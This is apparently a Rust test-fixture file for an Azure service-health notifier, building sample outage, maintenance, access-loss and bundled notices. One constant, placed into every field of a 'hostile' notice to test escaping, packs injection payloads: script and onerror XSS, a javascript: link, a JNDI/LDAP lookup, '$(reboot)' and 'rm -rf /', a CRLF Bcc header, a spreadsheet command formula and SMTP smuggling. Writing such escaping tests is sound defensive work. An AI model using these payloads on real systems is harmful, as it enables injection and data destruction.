//! Parcels with typical stories, and one with everything that a bad hand could write.

use std::collections::BTreeMap;

use health_monitor::model::{
    AffectedCustomer, EventChange, EventStatus, EventType, Notice, NoticeId, NoticeScope, Phase, RegionImpact,
    ResourceId, ServiceImpact, Severity, Story, StoryCustomer, StoryEvent, Subject, SubscriptionId, TenantId, TextHash,
    Timestamp,
};
use health_monitor::notify::channel::Parcel;
use uuid::Uuid;

/// What a bad hand could write: markup of every channel, headers, invisible signs.
pub const HOSTILE: &str = "<script>alert(1)</script> <img src=x onerror=alert(1)> [click](https://evil.example) **bold** `code` \
    <!channel> <@U123> <https://evil.example|text> @everyone <at>all</at> {{DATE(2026-01-15T12:00:00Z,SHORT)}} \
    \r\nBcc: victim@evil.example\r\n\r\n\u{202e}gpj.exe\u{200b} & \"quotes\" 'more' ${jndi:ldap://evil} $(reboot) ; rm -rf / | | \
    data:text/html,x javascript:alert(1) \u{0}\u{7}\u{1b}[31m =cmd|' /C calc'!A0 .\r\n.\r\nQUIT";

/// Azure's text of an outage, as it is kept.
const OUTAGE_TEXT: &str = "<p><strong>What happened?</strong></p><p>Starting at 10:20 UTC on 15 January 2026, customers using Virtual \
    Machines in West Europe may see <em>connection failures</em>.</p><ul><li>A power event in one datacentre</li><li>Failover is \
    under way</li></ul><p>See <a href=\"https://aka.ms/ash\" rel=\"noopener noreferrer nofollow\">aka.ms/ash</a> &amp; your alerts.</p>";

fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn id(number: u128) -> Uuid {
    Uuid::from_u128(0x0000_0000_0000_4000_8000_0000_0000_0000 + number)
}

pub fn contoso() -> TenantId {
    TenantId::from(id(0xc0))
}

/// An outage at one customer, told by one notice.
fn outage(phase: Phase, word: &str) -> (Notice, BTreeMap<TextHash, String>) {
    let text = TextHash::of(OUTAGE_TEXT);
    let tracking_id = "KSYM-9_8".parse().unwrap();
    let over = phase == Phase::Ended;
    let event = StoryEvent {
        tracking_id,
        event_type: EventType::ServiceIssue,
        status: if over { EventStatus::Resolved } else { EventStatus::Active },
        impact: vec![
            ServiceImpact {
                service: "Virtual Machines".to_owned(),
                service_guid: None,
                regions: vec![region("West Europe"), region("North Europe")],
            },
            ServiceImpact {
                service: "Azure SQL Database".to_owned(),
                service_guid: None,
                regions: vec![region("West Europe")],
            },
        ],
        impact_start: Some(at("2026-01-15T10:20:00Z")),
        impact_mitigation: over.then(|| at("2026-01-15T13:05:00Z")),
        text: Some(text),
        text_withheld: false,
        last_update: Some(at("2026-01-15T11:58:00Z")),
        link: Some("https://app.azure.com/h/KSYM-9_8/c0".to_owned()),
    };
    let story = Story {
        word: word.to_owned(),
        phase,
        title: "Virtual Machines: connection failures in West Europe".to_owned(),
        severity: Severity::High,
        at: at("2026-01-15T12:00:00Z"),
        customer: Some(StoryCustomer {
            tenant_id: contoso(),
            display_name: "Contoso GmbH".to_owned(),
            time_zone: Some("Europe/Berlin".to_owned()),
            contacts: vec!["it@contoso.example".to_owned()],
        }),
        event: Some(event),
        resources: Vec::new(),
        subscriptions: BTreeMap::from([
            (SubscriptionId::from(id(0x51)), "Production".to_owned()),
            (SubscriptionId::from(id(0x52)), "Test & Development".to_owned()),
        ]),
        changes: Default::default(),
        remedy: None,
        facts: Vec::new(),
        affected: Vec::new(),
    };
    let notice = notice(story, Subject::Event { tracking_id: "KSYM-9_8".parse().unwrap() }, 1);
    (notice, BTreeMap::from([(text, OUTAGE_TEXT.to_owned())]))
}

fn region(name: &str) -> RegionImpact {
    RegionImpact { region: name.to_owned(), status: Some(EventStatus::Active) }
}

fn notice(story: Story, subject: Subject, number: u128) -> Notice {
    let scope = match &story.customer {
        Some(customer) => NoticeScope::Customer { tenant_id: customer.tenant_id },
        None => NoticeScope::Partner,
    };
    Notice {
        id: NoticeId::from(id(0xa00 + number)),
        scope,
        route: "on-call".to_owned(),
        channel: "ops".to_owned(),
        subject,
        episode: 1,
        created_at: story.at,
        not_before: story.at,
        story,
        transitions: Default::default(),
        bundle: None,
        only_after_start: false,
        delivery: Default::default(),
    }
}

fn parcel(notices: Vec<Notice>, texts: BTreeMap<TextHash, String>) -> Parcel {
    let parcel_id = if notices.len() == 1 { notices[0].id } else { NoticeId::from(id(0xb00)) };
    Parcel { id: parcel_id, notices, texts, sent_at: at("2026-01-15T12:00:30Z"), attempt: 1 }
}

fn one((notice, texts): (Notice, BTreeMap<TextHash, String>)) -> Parcel {
    parcel(vec![notice], texts)
}

/// A customer's outage begins.
pub fn outage_began() -> Parcel {
    one(outage(Phase::Began, "eventOpened"))
}

/// Azure has published a new text.
pub fn outage_changed() -> Parcel {
    let (mut notice, texts) = outage(Phase::Changed, "eventUpdated");
    notice.id = NoticeId::from(id(0xa02));
    notice.story.changes = [EventChange::Text, EventChange::Scope].into();
    one((notice, texts))
}

/// It is over.
pub fn outage_ended() -> Parcel {
    let (mut notice, texts) = outage(Phase::Ended, "eventResolved");
    notice.id = NoticeId::from(id(0xa03));
    one((notice, texts))
}

/// It never was.
pub fn retracted() -> Parcel {
    let (mut notice, _) = outage(Phase::Retracted, "eventRetracted");
    notice.id = NoticeId::from(id(0xa04));
    one((notice, BTreeMap::new()))
}

/// Somebody looks after it.
pub fn acknowledged() -> Parcel {
    let (mut notice, _) = outage(Phase::Changed, "acknowledged");
    notice.id = NoticeId::from(id(0xa05));
    notice.story.facts = vec![("By".to_owned(), "Ada".to_owned())];
    one((notice, BTreeMap::new()))
}

/// Maintenance at night.
pub fn maintenance() -> Parcel {
    let (mut notice, _) = outage(Phase::Began, "maintenanceAnnounced");
    notice.id = NoticeId::from(id(0xa06));
    let story = &mut notice.story;
    story.title = "Network maintenance in West Europe".to_owned();
    story.severity = Severity::Low;
    let event = story.event.as_mut().unwrap();
    event.event_type = EventType::PlannedMaintenance;
    event.impact_start = Some(at("2026-03-28T23:30:00Z"));
    event.impact_mitigation = Some(at("2026-03-29T03:30:00Z"));
    event.text = None;
    one((notice, BTreeMap::new()))
}

/// We can no longer read a subscription.
pub fn access_lost() -> Parcel {
    let (mut notice, _) = outage(Phase::Began, "accessLost");
    let subscription_id = SubscriptionId::from(id(0x51));
    notice.id = NoticeId::from(id(0xa07));
    notice.subject = Subject::Subscription { subscription_id, aspect: "access".to_owned() };
    notice.story.event = None;
    notice.story.title = "Production cannot be read any more".to_owned();
    notice.story.severity = Severity::Medium;
    notice.story.remedy = Some("Give our service principal the role Reader again.".to_owned());
    notice.story.subscriptions.retain(|id, _| *id == subscription_id);
    one((notice, BTreeMap::new()))
}

/// A resource is unavailable.
pub fn resource() -> Parcel {
    let (mut notice, _) = outage(Phase::Began, "resourceUnavailable");
    let path =
        format!("/subscriptions/{}/resourceGroups/web/providers/Microsoft.Compute/virtualMachines/vm1", id(0x51));
    let resource_id = ResourceId::parse(&path).unwrap();
    notice.id = NoticeId::from(id(0xa08));
    notice.subject = Subject::Resource { resource_id: resource_id.clone() };
    notice.story.event = None;
    notice.story.title = "vm1 is unavailable".to_owned();
    notice.story.resources = vec![resource_id];
    one((notice, BTreeMap::new()))
}

/// What came in an hour, in one message.
pub fn bundle() -> Parcel {
    let mut texts = BTreeMap::new();
    let mut notices = Vec::new();
    for parcel in [outage_began(), outage_ended(), maintenance(), access_lost(), resource()] {
        notices.extend(parcel.notices);
        texts.extend(parcel.texts);
    }
    parcel(notices, texts)
}

/// The partner's notice of an outage that hits 500 customers.
pub fn partner_500() -> Parcel {
    let (mut notice, texts) = outage(Phase::Began, "eventOpened");
    notice.id = NoticeId::from(id(0xa09));
    notice.scope = NoticeScope::Partner;
    notice.story.customer = None;
    notice.story.subscriptions.clear();
    let customer = |number: u128| AffectedCustomer {
        tenant_id: TenantId::from(id(0x1000 + number)),
        display_name: format!("Customer {number:03}"),
        subscriptions: 4,
        active: !number.is_multiple_of(10),
    };
    notice.story.affected = (1..=500).map(customer).collect();
    one((notice, texts))
}

/// A test that somebody asked for.
pub fn test() -> Parcel {
    let (mut notice, _) = outage(Phase::Remark, "test");
    notice.id = NoticeId::from(id(0xa0a));
    notice.subject = Subject::Test;
    notice.story.customer = None;
    notice.story.event = None;
    notice.story.subscriptions.clear();
    notice.scope = NoticeScope::Partner;
    notice.story.severity = Severity::Low;
    notice.story.title = "This is a test: nothing has happened".to_owned();
    one((notice, BTreeMap::new()))
}

/// Every text is what a bad hand could write.
pub fn hostile() -> Parcel {
    let (mut notice, _) = outage(Phase::Began, "eventOpened");
    notice.id = NoticeId::from(id(0xa0b));
    notice.route = HOSTILE.to_owned();
    let text = TextHash::of(HOSTILE);
    let story = &mut notice.story;
    story.title = HOSTILE.to_owned();
    story.remedy = Some(HOSTILE.to_owned());
    story.facts = vec![(HOSTILE.to_owned(), HOSTILE.to_owned())];
    story.subscriptions.values_mut().for_each(|name| *name = HOSTILE.to_owned());
    let customer = story.customer.as_mut().unwrap();
    customer.display_name = HOSTILE.to_owned();
    customer.time_zone = Some(HOSTILE.to_owned());
    customer.contacts = vec![HOSTILE.to_owned(), "a@b.example\r\nBcc: victim@evil.example".to_owned()];
    let event = story.event.as_mut().unwrap();
    event.link = Some("javascript:alert(1)".to_owned());
    event.text = Some(text);
    event.impact.iter_mut().for_each(|service| {
        service.service = HOSTILE.to_owned();
        service.regions.iter_mut().for_each(|region| region.region = HOSTILE.to_owned());
    });
    one((notice, BTreeMap::from([(text, HOSTILE.to_owned())])))
}

/// Everything as large as it can be: a bundle of forty notices with long texts.
pub fn huge() -> Parcel {
    let long = format!("<p>{}</p>", "Ein sehr langer Text über Störungen. ".repeat(2_000));
    let text = TextHash::of(&long);
    let notices = (0..40_u128).map(|number| {
        let mut notice = partner_500().notices.remove(0);
        notice.id = NoticeId::from(id(0xd00 + number));
        notice.story.title = "Überlastung ".repeat(200);
        notice.story.remedy = Some("Abwarten. ".repeat(500));
        notice.story.facts = (0..50).map(|n| (format!("Name {n}"), "Wert ".repeat(1_000))).collect();
        notice.story.event.as_mut().unwrap().text = Some(text);
        notice
    });
    parcel(notices.collect(), BTreeMap::from([(text, long)]))
}

/// Each typical story by name.
pub fn typical() -> Vec<(&'static str, Parcel)> {
    vec![
        ("outage_began", outage_began()),
        ("outage_changed", outage_changed()),
        ("outage_ended", outage_ended()),
        ("retracted", retracted()),
        ("maintenance", maintenance()),
        ("access_lost", access_lost()),
        ("bundle", bundle()),
        ("partner_500", partner_500()),
        ("hostile", hostile()),
    ]
}
